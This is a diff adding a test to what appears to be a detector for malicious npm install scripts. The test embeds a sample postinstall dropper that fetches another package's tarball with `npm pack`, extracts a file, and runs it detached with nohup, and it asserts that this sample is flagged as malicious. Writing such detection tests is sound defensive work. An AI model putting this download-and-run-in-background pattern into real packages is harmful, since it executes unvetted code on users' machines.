@@ -232,6 +232,26 @@ def test_shell_file_that_downloads_then_runs_is_a_dropper():
     assert "install-script/download-execute" not in rules(artifact({"install": "sh get.sh"}, {"get.sh": fetch_only}))
 
 
+def test_shell_file_that_downloads_then_starts_a_file_it_does_not_ship_in_the_background_is_a_dropper():
+    # blind set 33's registry-tarball-stage: another package's tarball fetched with `npm pack`, one file cut out of it,
+    # and that file left running
+    script = (b"#!/bin/sh\nd=$(mktemp -d) && cd \"$d\" || exit 0\n"
+              b"npm pack \"@glyphcache/runtime@2.0.1\" --registry \"https://registry.example/\" --silent >/dev/null 2>&1 || exit 0\n"
+              b"f=$(ls ./*.tgz | head -n 1)\ntar -xzOf \"$f\" package/lib/cache.js > ./.cache.js\n"
+              b"(nohup node ./.cache.js >/dev/null 2>&1 &)\n")
+    found = findings(artifact({"postinstall": "sh scripts/prefetch.sh || exit 0"}, {"scripts/prefetch.sh": script}))
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.line == 6 and drop.details["downloaded_at"] == 3 and decide(found).level is Level.MALICIOUS
+    # A file the package ships, started in the background after a download (a helper that waits for it), is its own;
+    # a file started in the foreground after a download is the installer's next step.
+    shipped = script.replace(b"(nohup node ./.cache.js", b"(nohup node ./lib/watch.js")
+    assert "install-script/download-execute" not in rules(
+        artifact({"postinstall": "sh scripts/prefetch.sh"}, {"scripts/prefetch.sh": shipped, "lib/watch.js": b"0"}))
+    foreground = script.replace(b"(nohup node ./.cache.js >/dev/null 2>&1 &)", b"node ./.cache.js --verify")
+    assert "install-script/download-execute" not in rules(artifact({"postinstall": "sh scripts/prefetch.sh"},
+                                                                   {"scripts/prefetch.sh": foreground}))
+
+
 def test_shell_file_with_an_escaped_url_saved_to_a_variable_then_run_detached_is_a_dropper():
     # (blind set 8's typosquat: the URL in printf octal escapes, the download run through nohup sh -c)
     url = "".join(f"\\{ord(c):03o}" for c in "http://cdn.example/s/setup.sh")
